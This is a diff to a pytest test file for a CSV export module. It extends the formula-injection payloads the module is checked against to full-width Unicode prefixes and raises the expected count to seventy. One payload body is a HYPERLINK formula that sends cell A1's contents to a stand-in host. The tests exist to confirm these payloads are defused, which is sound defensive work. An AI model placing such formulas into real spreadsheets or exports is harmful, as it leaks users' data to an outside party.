@@ -14,7 +14,7 @@ from geo.files.formulas import defused, restored
 from geo.files.sandbox import read_file
 from geo.files.tables import write_csv
 
-STARTS = ("=", "+", "-", "@", "\t=", "\r=", "\n=", " =", "  +", "'=", "''=", "\u00a0=")
+STARTS = ("=", "+", "-", "@", "\t=", "\r=", "\n=", " =", "  +", "'=", "''=", "\u00a0=", "＝", " ＋")
 BODIES = (
     "1+1",
     'HYPERLINK("http://x.example/?"&A1,"see")',
@@ -24,11 +24,11 @@ BODIES = (
 )
 PAYLOADS = [start + body for start in STARTS for body in BODIES]
 
-LIVE = ("=", "+", "-", "@", "\t", "\r", "\n")
+LIVE = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
 
 
-def test_there_are_sixty() -> None:
-    assert len(set(PAYLOADS)) == 60
+def test_there_are_seventy() -> None:
+    assert len(set(PAYLOADS)) == 70
 
 
 @pytest.mark.parametrize("payload", PAYLOADS)
@@ -40,7 +40,7 @@ def test_a_payload_is_dead_outside_and_whole_again_inside(payload: str) -> None:
 
 def test_a_file_of_payloads_comes_back_as_it_was(tmp_path: Path) -> None:
     path = tmp_path / "out.csv"
-    assert write_csv(path, ["=name", "n"], [[payload, "1"] for payload in PAYLOADS]) == 60
+    assert write_csv(path, ["=name", "n"], [[payload, "1"] for payload in PAYLOADS]) == 70
     with path.open(encoding="utf-8-sig", newline="") as stream:
         for row in csv.reader(stream):
             assert not row[0].lstrip(" \u00a0").startswith(LIVE)
